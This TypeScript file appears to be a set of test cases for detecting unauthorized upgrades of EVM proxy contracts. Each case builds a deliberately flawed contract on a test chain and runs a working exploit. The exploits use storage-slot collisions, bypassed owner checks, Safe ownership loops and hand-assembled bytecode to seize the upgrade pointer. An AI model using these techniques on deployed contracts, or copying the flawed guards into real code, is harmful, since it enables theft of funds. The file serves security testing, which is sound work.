/** Checks that look like the usual ones and let more pass, and hashes that reach the table of another. */
import { concatHex, encodeAbiParameters, encodePacked, type Hex, hexToBigInt, keccak256, pad, toHex } from 'viem'
import { openZeppelin4 } from '../../evm/compile.ts'
import { signers } from '../../evm/control.ts'
import { assemble, forwardTo } from '../assemble.ts'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, LOGIC_SLOT, system } from '../chain.ts'
import {
  deploySafe,
  execSafe,
  execSigned,
  safeSingleton,
  safeTransactionHash,
  setupData,
  upgradeCall,
} from '../safes.ts'
import { controlledBy, part } from './lying-getters.ts'

type Draft = Omit<Case, 'truth' | 'by'> & Partial<Pick<Case, 'by'>>

const ASSEMBLED = { cause: 'second writer', settings: ['optimized'] } as const
const timelocked =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock()))
const plain =
  (name: string, ...parts: readonly string[]) =>
  async (chain: Chain): Promise<Built> => {
    const args = await Promise.all(parts.map((each) => chain.deploy(each)))
    return system(await chain.proxy(await chain.deploy(name, ...args), callData('setNumber(uint256)', [1])))
  }
const withLibrary =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock(), await chain.deploy('OwnCallLibrary')))
/** An ERC-1967 proxy with hand-written logic. */
const assembled =
  (sourceOf: (logic: Hex) => string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await chain.deployRuntime(assemble(sourceOf(await chain.deploy('Plain'))))))

const WORD = 1n << 256n
const word = (value: bigint): Hex => toHex(value, { size: 32 })
const hashOf = (...words: readonly bigint[]): bigint => hexToBigInt(keccak256(concatHex(words.map(word))))
const distance = (start: bigint): bigint => (BigInt(LOGIC_SLOT) - start + WORD) % WORD
/** The number of slots from the start of the list in the second slot to the pointer. */
const FROM_LIST = distance(hashOf(1n))
const QUARTER = 1n << 254n

/** Logic whose first owner stored a length, and then handed it to a timelock. */
const forgedBy =
  (name: string, slot: Hex) =>
  async (chain: Chain): Promise<Built> => {
    const owner = chain.hidden().address
    const address = await chain.uups(name, owner)
    await chain.send(address, 'setStorage(bytes32,bytes32)', [slot, word(WORD - 1n)], owner)
    await chain.send(address, 'transferOwnership(address)', [await chain.timelock()], owner)
    return system(address)
  }

const sending =
  (signature: string, argsFor: (code: Hex, attack: Attack) => readonly unknown[]): Case['exploit'] =>
  (attack, { address }) =>
    attack.send(address, signature, argsFor(attack.code, attack))
const upgrade = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeTo(address)', [code])
const upgradeAndCall = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeToAndCall(address,bytes)', [code, '0x'])
/** Stores something first, then upgrades. */
const after =
  (
    then: Case['exploit'],
    signature: string,
    argsFor: (account: Hex, built: Built) => readonly unknown[] = () => [],
  ): Case['exploit'] =>
  async (attack, built) => {
    await attack.send(built.address, signature, argsFor(attack.account.address, built))
    await then(attack, built)
  }

/** A list without an upgrade function, and the call that reaches the pointer. */
const listing = (
  name: string,
  contract: string,
  signature: string,
  argsFor: (code: Hex) => readonly unknown[],
): Draft => ({
  name,
  cause: 'second writer',
  build: plain(contract),
  exploit: sending(signature, argsFor),
})

const drafts: readonly Draft[] = [
  listing('the index is compared as a signed number', 'SignedIndex', 'fill(uint256,uint256)', (code) => [
    FROM_LIST,
    BigInt(code),
  ]),
  listing(
    'the index is within a window that the caller names',
    'WindowedIndex',
    'fill(uint256,uint256,uint256)',
    (code) => [FROM_LIST, FROM_LIST, BigInt(code)],
  ),
  listing('the larger of an index and a length is used', 'LargerIndex', 'fill(uint256,uint256)', (code) => [
    FROM_LIST,
    BigInt(code),
  ]),
  {
    name: 'the remainder of an index by a number of the caller is used',
    cause: 'second writer',
    build: plain('NamedModulus'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'add(uint256)', [1n])
      await send(address, 'fill(uint256,uint256,uint256)', [FROM_LIST, FROM_LIST + 1n, BigInt(code)])
    },
  },
  listing('only the last byte of an index is checked', 'ByteIndex', 'fill(uint256,uint256)', (code) => [
    distance(1n),
    BigInt(code),
  ]),
  listing('a list of a fixed length covers a quarter of the storage', 'LongList', 'fill(uint256,uint256)', (code) => [
    distance(1n),
    BigInt(code),
  ]),
  listing(
    'a table of lists of a fixed length, of which each covers a quarter',
    'LongLists',
    'fill(uint256,uint256,uint256)',
    (code) => {
      let key = 0n
      while (distance(hashOf(key, 1n)) >= QUARTER) key += 1n
      return [key, distance(hashOf(key, 1n)), BigInt(code)]
    },
  ),
  {
    name: 'the slot of the owner looks like a name and is an entry under a text',
    cause: 'second writer',
    build: timelocked('TextOwner'),
    exploit: after(upgrade, 'describe(string,uint256)', (account) => ['vault.owner', BigInt(account)]),
  },
  {
    name: 'the slot of the owner is in a row of a table',
    cause: 'second writer',
    build: timelocked('RowOwner'),
    exploit: after(upgrade, 'fill(uint256,uint256,uint256)', (account) => [9n, 33n, BigInt(account)]),
  },
  {
    name: 'the shift of the comparison leaves one byte of the sender',
    cause: 'other guard',
    build: async (chain) => {
      const owner = await chain.timelock()
      return system(await chain.uups('ShiftedGuard', owner), { owner })
    },
    exploit: async ({ newAccount, send, code }, built) => {
      let as = newAccount()
      while (!as.address.toLowerCase().endsWith(part(built, 'owner').toLowerCase().slice(-2))) as = newAccount()
      await send(built.address, 'upgradeTo(address)', [code], { as })
    },
  },
  {
    name: 'the slot of the owner moves at a gas price',
    cause: 'trial detector',
    build: timelocked('MovingOwner'),
    exploit: async ({ account, send, code }, { address }) => {
      await send(address, 'note(uint256)', [BigInt(account.address)])
      await send(address, 'upgradeTo(address)', [code], { gasPrice: 7n })
    },
  },
  {
    name: 'the check of the owner is in a loop without rounds',
    cause: 'second writer',
    build: timelocked('ZeroRounds'),
    exploit: sending('settle(uint256,address)', (code) => [0n, code]),
  },
  {
    name: 'the check of the owner is in the first round, which the caller skips',
    cause: 'second writer',
    build: timelocked('FirstRound'),
    exploit: sending('settle(uint256,address[])', (code) => [1n, [code, code]]),
  },
  {
    name: 'the check of the owner follows the store that replaces it',
    cause: 'other guard',
    build: timelocked('LateCheck'),
    exploit: after(upgrade, 'settle(address)', (account) => [account]),
  },
  {
    name: 'the check of the owner follows a call to itself that replaces it',
    cause: 'other guard',
    build: timelocked('LateCheckOfCall'),
    exploit: after(upgrade, 'settle(address)', (account) => [account]),
  },
  {
    name: 'the caller names the role that the guard checks',
    cause: 'other guard',
    build: timelocked('ChosenRole'),
    exploit: async ({ read, send, code }, { address }) => {
      await send(address, 'join()')
      await send(address, 'upgradeAs(bytes32,address)', [await read(address, 'GUEST()'), code])
    },
  },
  {
    name: 'the caller chooses one of four tables, and one lists the wards',
    cause: 'other guard',
    build: timelocked('ChosenTable'),
    exploit: after(upgradeAndCall, 'note(uint256,uint256,uint256)', (account) => [0n, BigInt(account), 1n]),
  },
  {
    name: 'the hash of a text of the caller is an entry of the wards',
    cause: 'other guard',
    build: timelocked('TextEntries'),
    exploit: after(upgradeAndCall, 'remember(bytes)', (account) => [
      encodeAbiParameters([{ type: 'address' }, { type: 'uint256' }], [account, 1n]),
    ]),
  },
  {
    name: 'the hash of a name of 32 bytes is an entry of the roles of Solady',
    cause: 'other guard',
    build: timelocked('NamedRoles'),
    exploit: after(upgradeAndCall, 'register(bytes32)', (account) => [
      encodePacked(['address', 'uint64', 'uint32'], [account, 0n, 0x8b78c6d8]),
    ]),
  },
  {
    name: 'the contract burns what anyone names, and may burn itself',
    cause: 'second writer',
    build: timelocked('SelfBurn'),
    exploit: (attack, { address }) => attack.send(address, 'sweep(address,uint256)', [address, BigInt(attack.code)]),
  },
  {
    name: 'the caller names where memory is free, and with it the target of a delegatecall',
    cause: 'second writer',
    build: plain('MovedFreeMemory', 'QuietExtension'),
    exploit: async ({ deployRuntime, send, code }, { address }) => {
      const program = await deployRuntime(assemble(`${code} ${LOGIC_SLOT} SSTORE STOP`))
      await send(address, 'run(uint256,bytes)', [0x60n, pad(program, { size: 32 })])
    },
  },
  {
    name: 'a table of owners by contract has an open entry behind a proxy',
    cause: 'other guard',
    build: timelocked('OwnersByContract'),
    exploit: after(upgrade, 'setOwner(address,address)', (account, { address }) => [address, account]),
  },
  {
    name: 'one key can replace the code of the Safe that owns',
    cause: 'lying getter',
    by: 'one key',
    build: async (chain) => {
      const data = setupData({ owners: signers(5), threshold: 3 })
      const args = [await safeSingleton(chain), chain.hidden().address, data]
      return controlledBy(chain, await chain.deployArtifact(openZeppelin4('TransparentUpgradeableProxy'), ...args))
    },
    exploit: async (attack, built) => {
      const relay = await attack.deployRuntime(
        assemble(
          '0x24 CALLDATASIZE SUB 0x24 0x00 CALLDATACOPY 0x00 0x00 0x24 CALLDATASIZE SUB 0x00 0x00 0x04 CALLDATALOAD GAS CALL STOP',
        ),
      )
      await attack.send(part(built, 'controller'), 'upgradeTo(address)', [relay])
      const data = concatHex([
        '0x12345678',
        pad(part(built, 'admin'), { size: 32 }),
        upgradeCall(built.address, attack.code),
      ])
      await attack.sendRaw(part(built, 'controller'), data, { as: attack.newAccount() })
    },
  },
  {
    name: 'two Safes own each other, so that one key decides',
    cause: 'module',
    by: 'one key',
    build: async (chain) => {
      const key = chain.hidden().address
      const inner = await deploySafe(chain, { owners: [key, signers(1)[0] as Hex], threshold: 1 })
      const outer = await deploySafe(chain, { owners: [key, inner], threshold: 2 })
      // The inner one needs only one of the two, and lists the outer one as a further owner.
      await chain.send(inner, 'addOwnerWithThreshold(address,uint256)', [outer, 1n], inner)
      return controlledBy(chain, outer, { inner })
    },
    exploit: async (attack, built) => {
      const [safe, inner, admin] = [part(built, 'controller'), part(built, 'inner'), part(built, 'admin')]
      const call = (at: Hex, input: Hex): Promise<Hex> =>
        attack.chain.node.rpc<Hex>('eth_call', { to: at, data: input }, 'latest')
      const data = upgradeCall(built.address, attack.code)
      const hash = await safeTransactionHash(call, safe, admin, data)
      await execSigned(attack, inner, safe, callData('approveHash(bytes32)', [hash]), [attack.account])
      const approved = (owner: Hex): Hex => concatHex([pad(owner, { size: 32 }), word(0n), '0x01'])
      const owners = [attack.account.address, inner].sort((a, b) => (BigInt(a) < BigInt(b) ? -1 : 1))
      await attack.send(safe, 'approveHash(bytes32)', [hash])
      await execSafe(attack, safe, admin, data, concatHex(owners.map(approved)))
    },
  },
  {
    name: 'a library that runs by CALLCODE lets the contract itself pass',
    cause: 'second writer',
    build: withLibrary('OwnCallcode'),
    exploit: after(upgrade, 'pong(address)', (account) => [account]),
  },
  {
    name: 'a call to itself reaches a library under another name',
    cause: 'second writer',
    build: withLibrary('RenamedOwnCall'),
    exploit: after(upgrade, 'ping(address,address)', (account, { address }) => [address, account]),
  },
  {
    name: 'a call to itself reaches a reserved function through a batch',
    cause: 'second writer',
    build: timelocked('BatchedOwnCall'),
    exploit: after(upgrade, 'ping(address,bytes[])', (account, { address }) => [
      address,
      [callData('accept(address)', [account])],
    ]),
  },
  {
    name: 'an earlier owner stored the length of a list',
    cause: 'second writer',
    build: forgedBy('AnyWord', toHex(2, { size: 32 })),
    exploit: sending('fill(uint256,uint256)', (code) => [distance(hashOf(2n)), BigInt(code)]),
  },
  {
    name: 'an earlier owner stored the length of a list in a table',
    cause: 'second writer',
    build: forgedBy('AnyWordTable', word(hashOf(7n, 3n))),
    exploit: sending('fillRow(uint256,uint256,uint256)', (code) => [
      7n,
      distance(hashOf(hashOf(7n, 3n))),
      BigInt(code),
    ]),
  },
  {
    name: 'the code of a beacon answers from the storage of the proxy',
    cause: 'forwarder',
    build: async (chain) => {
      const logic = await chain.deploy('Plain')
      return system(await chain.deploy('BeaconRunner', await chain.deploy('QuietBeacon', logic), logic))
    },
    exploit: sending('setNumber(uint256)', (code) => [BigInt(code)]),
  },
  {
    ...ASSEMBLED,
    name: 'the caller says how many words are removed from the stack',
    build: assembled(
      (logic) => `CALLDATASIZE 0x40 EQ @odd JUMPI ${forwardTo(logic)}
        :odd 0x20 CALLDATALOAD 0x00 MSTORE 0x00 CALLDATALOAD ${LOGIC_SLOT} 0x05 0x11
        :loop 0x00 MLOAD ISZERO @store JUMPI POP POP 0x01 0x00 MLOAD SUB 0x00 MSTORE @loop JUMP
        :store SSTORE STOP`,
    ),
    exploit: ({ sendRaw, code }, { address }) => sendRaw(address, concatHex([pad(code, { size: 32 }), word(1n)])),
  },
  {
    ...ASSEMBLED,
    name: 'an opcode of a later hard fork comes before the write',
    hardfork: 'osaka',
    build: assembled(
      (logic) => `CALLDATASIZE 0x20 EQ @odd JUMPI ${forwardTo(logic)}
        :odd 0x00 CALLDATALOAD data:0x1e POP 0x00 CALLDATALOAD ${LOGIC_SLOT} SSTORE STOP`,
    ),
    exploit: ({ sendRaw, code }, { address }) => sendRaw(address, pad(code, { size: 32 })),
  },
  {
    ...ASSEMBLED,
    name: 'a subroutine returns to where its caller was called from',
    build: assembled(
      // The inner subroutine drops its own return address if calldata has an odd size.
      (logic) => `CALLDATASIZE 0x21 LT @odd JUMPI :usual ${forwardTo(logic)}
        :odd @write @guard @inner JUMP
        :inner 0x01 CALLDATASIZE AND @drop JUMPI JUMP
        :drop POP JUMP
        :guard CALLER 0x00000000000000000000000000000000000a11ce EQ @pass JUMPI 0x00 0x00 REVERT
        :pass JUMP
        :write 0x00 CALLDATALOAD ${LOGIC_SLOT} SSTORE STOP`,
    ),
    exploit: ({ sendRaw, code }, { address }) => sendRaw(address, concatHex([pad(code, { size: 32 }), '0x000000'])),
  },
  {
    ...ASSEMBLED,
    name: 'copied memory overlaps itself and makes the slot',
    build: assembled(
      // MCOPY copies as if through a buffer: byte by byte the slot would be another one.
      (logic) => `CALLDATASIZE 0x21 EQ @odd JUMPI ${forwardTo(logic)}
        :odd ${concatHex(['0x00', `0x${LOGIC_SLOT.slice(2, 64)}`])} 0x00 MSTORE ${concatHex([`0x${LOGIC_SLOT.slice(64)}`, toHex(0, { size: 31 })])} 0x20 MSTORE
        0x20 0x01 0x00 data:0x5e 0x00 CALLDATALOAD 0x00 MLOAD SSTORE STOP`,
    ),
    exploit: ({ sendRaw, code }, { address }) => sendRaw(address, concatHex([pad(code, { size: 32 }), '0x00'])),
  },
]

export const weakChecks: readonly Case[] = drafts.map((draft) => ({ by: 'anyone', ...draft, truth: WEAK }))
